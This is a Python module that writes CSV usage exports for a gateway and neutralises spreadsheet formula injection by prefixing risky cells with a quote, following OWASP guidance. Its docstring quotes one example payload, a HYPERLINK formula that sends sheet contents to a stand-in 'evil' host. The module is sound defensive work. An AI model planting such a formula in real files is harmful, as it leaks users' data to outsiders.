"""CSV the gateway writes, safe to open in a spreadsheet.

Exports (``GET /admin/usage?format=csv``) carry text that tenants chose (a model name, a route),
and spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula:
``=HYPERLINK("http://evil/?"&A1, "click")`` in a usage export would leak the sheet to whoever
clicks it. As OWASP recommends (CSV Injection), such a cell is written with a leading single
quote, which spreadsheets show as text and do not evaluate. Tab, carriage return and line feed
lead the same list, since some programs strip them before looking; a cell whose first
non-blank character is a formula character is prefixed too.

Line breaks inside a cell must not forge rows: the writer ends rows with CRLF (RFC 4180), so the
``csv`` module quotes every cell that contains a CR or an LF. (With ``lineterminator="\\n"`` it
quotes only cells containing LF, and a bare CR in a cell breaks the file for every reader.)
Numbers are left alone: only text can carry a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

#: First characters that make a spreadsheet cell a formula, or that hide one behind them.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n")


def neutralise(value: Any) -> Any:
    """``value`` as it may be written into a CSV cell: text that a spreadsheet would evaluate
    gets a leading ``'``; anything else is returned unchanged."""
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(FORMULA_PREFIXES) or value.lstrip(" ").startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def write_csv(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """A CSV document: a header row of ``columns``, then one row per mapping (other keys are
    ignored, missing ones are empty), every text cell neutralised, rows ended with CRLF."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    writer.writerow([neutralise(c) for c in columns])
    for row in rows:
        writer.writerow([neutralise(row.get(c, "")) for c in columns])
    return out.getvalue()
